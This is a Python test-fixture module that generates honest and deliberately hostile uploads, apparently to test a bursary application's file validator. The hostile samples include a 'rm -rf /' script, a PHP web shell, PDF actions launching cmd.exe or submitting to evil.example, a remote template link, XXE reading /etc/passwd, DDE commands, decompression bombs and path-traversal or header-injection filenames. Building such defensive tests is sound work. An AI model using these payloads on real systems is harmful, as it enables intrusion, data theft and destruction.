"""Files as people send them: honest ones of each type, and forty-eight that mean harm."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Any, Final, NamedTuple
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.bursaries.rounds.models import FormSection, Question, Round
from app.bursaries.rounds.states import QuestionKind

# In two parts, so that no scanner takes this file for what it makes.
EICAR: Final = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET_NAME: Final = "Planted Author"
TYPES: Final = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>{more}</Types>'
)
MACROS: Final = TYPES.replace(
    "officedocument.wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
).replace("openxmlformats-ms", "ms")
W: Final = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCUMENT: Final = (
    f"<w:document {W}><w:body><w:p><w:r><w:t>{{text}}</w:t></w:r></w:p></w:body></w:document>"
)
RELATION: Final = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
)
CORE: Final = (
    '<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>' + SECRET_NAME + "</dc:creator>"
    "</cp:coreProperties>"
)


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    """Return a PDF of one page that names its author, changed as asked."""
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.docinfo["/Author"] = SECRET_NAME
        if change:
            change(document)
        document.save(made, **saving)
    return made.getvalue()


def docx(parts: Mapping[str, str | bytes] | None = None, *, types: str = TYPES) -> bytes:
    """Return a Word file that names its author, with these parts too or instead."""
    made = BytesIO()
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": types.replace("{more}", ""),
        "_rels/.rels": RELATION.format(
            kind="officeDocument", target="word/document.xml", mode="Internal"
        ),
        "word/document.xml": DOCUMENT.format(text="A letter"),
        "docProps/core.xml": CORE,
    } | dict(parts or {})
    with ZipFile(made, "w", ZIP_DEFLATED) as package:
        for name, content in whole.items():
            package.writestr(name, content)
    return made.getvalue()


def image(form: str = "PNG", size: tuple[int, int] = (40, 30), **saving: object) -> bytes:
    """Return a plain picture."""
    made = BytesIO()
    Image.new("RGB", size, "#0b6e75").save(made, form, **saving)
    return made.getvalue()


def photo() -> bytes:
    """Return a JPEG that tells where it was taken, and by whom."""
    exif = Image.Exif()
    exif[0x013B] = SECRET_NAME
    exif[0x8825] = {1: "N", 2: (53.0, 22.0, 50.0), 3: "W", 4: (1.0, 28.0, 12.0)}
    return image("JPEG", exif=exif, comment=SECRET_NAME.encode())


HONEST: Final[Mapping[str, Callable[[], bytes]]] = {
    "letter.pdf": pdf,
    "letter.docx": docx,
    "photo.jpg": photo,
    "scan.png": image,
}


def _zip(**parts: bytes) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def _action(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        action = Dictionary(**entries)
        document.Root.OpenAction = document.make_indirect(action)
        document.pages[0].obj.AA = Dictionary(O=action)
        document.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)]
        )

    return change


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = pikepdf.AttachedFileSpec(document, b"MZ evil")


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _hidden_action(document: pikepdf.Pdf) -> None:
    """Put a program where no known place of actions is."""
    document.pages[0].obj.Private = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _swallowed(document: pikepdf.Pdf) -> None:
    document.Root.Swallowed = document.make_stream(EICAR)


def _no_pages() -> bytes:
    made = BytesIO()
    with pikepdf.new() as document:
        document.save(made)
    return made.getvalue()


def _chunk(name: bytes, content: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + check


def _png_bomb() -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
    body = _chunk(b"IDAT", zlib.compress(b"\0" * 5_000_000))
    return b"\x89PNG\r\n\x1a\n" + head + body + _chunk(b"IEND", b"")


def _pdf_bomb() -> bytes:
    """Return a PDF whose list of objects unpacks to two gigabytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 2**20) for _ in range(2048)) + packer.flush()
    head = b"%PDF-1.5\n"
    xref = (
        b"1 0 obj\n<</Type/XRef/Size 2/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n" % len(packed)
    )
    return head + xref + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def _doctype(entity: str) -> bytes:
    text = f"<!DOCTYPE d [{entity}]>{DOCUMENT.format(text='&x;')}"
    return docx({"word/document.xml": text})


def _linked(kind: str, target: str, mode: str = "External") -> bytes:
    part = RELATION.format(kind=kind, target=target, mode=mode)
    return docx({"word/_rels/document.xml.rels": part})


def _field(text: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in text.split("|"))
    body = f"<w:document {W}><w:body><w:p>{runs}</w:p></w:body></w:document>"
    return docx({"word/document.xml": body})


def _renamed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return data.replace(old, new)


LAUGHS: Final = '<!ENTITY a "ha"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;">'
MACRO: Final = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}
DIALOG: Final = "A file as it is, {why}"


class Hostile(NamedTuple):
    """A file, the name it comes under, and whether it has to be refused."""

    name: str
    make: Callable[[], bytes]
    refused: bool = True


HOSTILE: Final[Mapping[str, Hostile]] = {
    # What is no file of ours at all.
    "html as pdf": Hostile("cv.pdf", lambda: b"<html><script>alert(1)</script></html>"),
    "svg": Hostile("x.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    "svg as png": Hostile("x.png", lambda: b'<?xml version="1.0"?><svg onload="x()"/>'),
    "exe renamed": Hostile("cv.pdf", lambda: b"MZ\x90\0" + b"\0" * 200),
    "elf renamed": Hostile("cv.docx", lambda: b"\x7fELF" + b"\0" * 200),
    "shell script": Hostile("cv.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "php": Hostile("shell.php.jpg", lambda: b"<?php system($_GET[0]); ?>"),
    "eicar": Hostile("eicar.com", lambda: EICAR),
    "rtf": Hostile("cv.docx", lambda: b"{\\rtf1 \\objdata 0105}"),
    "old word": Hostile("cv.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "gif": Hostile("x.gif", lambda: image("GIF")),
    "bare zip": Hostile("cv.docx", lambda: _zip(**{"a.txt": b"hello"})),
    "spreadsheet": Hostile(
        "cv.docx", lambda: docx(types=TYPES.replace("wordprocessingml.document", "sheet"))
    ),
    "empty": Hostile("cv.pdf", lambda: b""),
    "null bytes": Hostile("cv.pdf", lambda: b"\0" * 4096),
    "too large": Hostile("cv.pdf", lambda: b"%PDF-1.7\n" + b" " * (10 * 1024 * 1024)),
    "html before pdf": Hostile("cv.pdf", lambda: b"<script>x()</script>\n" + pdf()),
    # PDF.
    "pdf start only": Hostile("cv.pdf", lambda: b"%PDF-1.7\n<script>alert(1)</script>"),
    "pdf truncated": Hostile("cv.pdf", lambda: pdf()[:-200]),
    "pdf encrypted": Hostile(
        "cv.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u"))
    ),
    "pdf restricted": Hostile(
        "cv.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user=""))
    ),
    "pdf without pages": Hostile("cv.pdf", _no_pages),
    "pdf bomb": Hostile("cv.pdf", _pdf_bomb),
    "pdf hidden script": Hostile("cv.pdf", lambda: pdf(_hidden_action)),
    "pdf script": Hostile(
        "cv.pdf", lambda: pdf(_action(S=Name.JavaScript, JS="app.alert(1)")), refused=False
    ),
    "pdf launch": Hostile(
        "cv.pdf", lambda: pdf(_action(S=Name.Launch, F="cmd.exe")), refused=False
    ),
    "pdf link": Hostile(
        "cv.pdf", lambda: pdf(_action(S=Name.URI, URI="http://evil.example/")), refused=False
    ),
    "pdf submit": Hostile(
        "cv.pdf", lambda: pdf(_action(S=Name.SubmitForm, F="http://evil.example/")), refused=False
    ),
    "pdf embedded": Hostile("cv.pdf", lambda: pdf(_embedded), refused=False),
    "pdf xfa": Hostile("cv.pdf", lambda: pdf(_xfa), refused=False),
    "pdf and zip": Hostile("cv.pdf", lambda: pdf() + docx(MACRO)),
    "pdf and html": Hostile("cv.html", lambda: pdf() + b"<script>alert(1)</script>", refused=False),
    # Word.
    "docx truncated": Hostile("cv.docx", lambda: docx()[:-60]),
    "docx macros": Hostile("cv.docx", lambda: docx(MACRO)),
    "docm": Hostile("cv.docx", lambda: docx(types=MACROS)),
    "docx embedded object": Hostile("cv.docx", lambda: docx({"word/embeddings/o.xlsx": _zip()})),
    "docx nested": Hostile("cv.docx", lambda: docx({"word/media/image1.png": docx()})),
    "docx bomb": Hostile("cv.docx", lambda: docx({"word/x.xml": b" " * 120_000_000})),
    "docx ratio": Hostile("cv.docx", lambda: docx({"word/x.xml": b" " * 5_000_000})),
    "docx many parts": Hostile(
        "cv.docx", lambda: docx({f"word/{number}.xml": "<a/>" for number in range(2100)})
    ),
    "docx template": Hostile(
        "cv.docx", lambda: _linked("attachedTemplate", "http://evil.example/t.dotm")
    ),
    "docx remote picture": Hostile("cv.docx", lambda: _linked("image", "http://evil.example/i")),
    "docx script link": Hostile("cv.docx", lambda: _linked("hyperlink", "javascript:alert(1)")),
    "docx xxe": Hostile("cv.docx", lambda: _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    "docx laughs": Hostile("cv.docx", lambda: _doctype(LAUGHS)),
    "docx dde": Hostile("cv.docx", lambda: _field("DD|EAUTO c:\\\\cmd.exe")),
    "docx path names": Hostile(
        "cv.docx", lambda: _renamed(docx({"word/aa/aa/x.xml": "<a/>"}), b"aa/aa", b"../..")
    ),
    # Pictures.
    "png bomb": Hostile("x.png", _png_bomb),
    "png truncated": Hostile("x.png", lambda: image(size=(900, 900))[:-400]),
    "jpeg with a place": Hostile("x.jpg", photo, refused=False),
    "jpeg and zip": Hostile("x.jpg", lambda: photo() + docx(MACRO), refused=False),
    "jpeg and php": Hostile(
        "x.php.jpg", lambda: image("JPEG", comment=b"<?php system(1); ?>"), refused=False
    ),
}
# Names that mean harm, each on an honest file: how it is shown.
NAMES: Final[Mapping[str, str]] = {
    "../../etc/passwd": "passwd.png",
    "..\\..\\windows\\win.ini": "win.ini.png",
    "/etc/cron.d/x.png": "x.png",
    "cv\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe": "cvgnp.exe.png",
    "a\x00b.png": "ab.png",
    'x"; filename="y.html': 'x"; filename="y.html.png',
    "a\r\nSet-Cookie: x=y.png": "aSet-Cookie: x=y.png",
    "<script>alert(1)</script>.png": "script>.png",
    "n" * 300 + ".png": "n" * 96 + ".png",
    "photo.JPG": "photo.png",
    ".htaccess": "htaccess.png",
    "": "file.png",
    "...": "file.png",
    "ДОклад.png": "ДОклад.png",
    "CV.PNG": "CV.PNG",
}


def with_question(session: Session, round_: Round, key: str, **columns: Any) -> Question:
    """Return a question of the round's form that asks for files, the last of the section `case`."""
    section = session.scalars(
        select(FormSection).where(
            FormSection.form_version_id == round_.form_version_id, FormSection.key == "case"
        )
    ).one()
    question = Question(
        **{
            "form_version_id": section.form_version_id,
            "section_id": section.id,
            "key": key,
            "kind": QuestionKind.FILE,
            "label": f"What about {key}?",
            "position": 99,
        }
        | columns
    )
    session.add(question)
    session.flush()
    return question
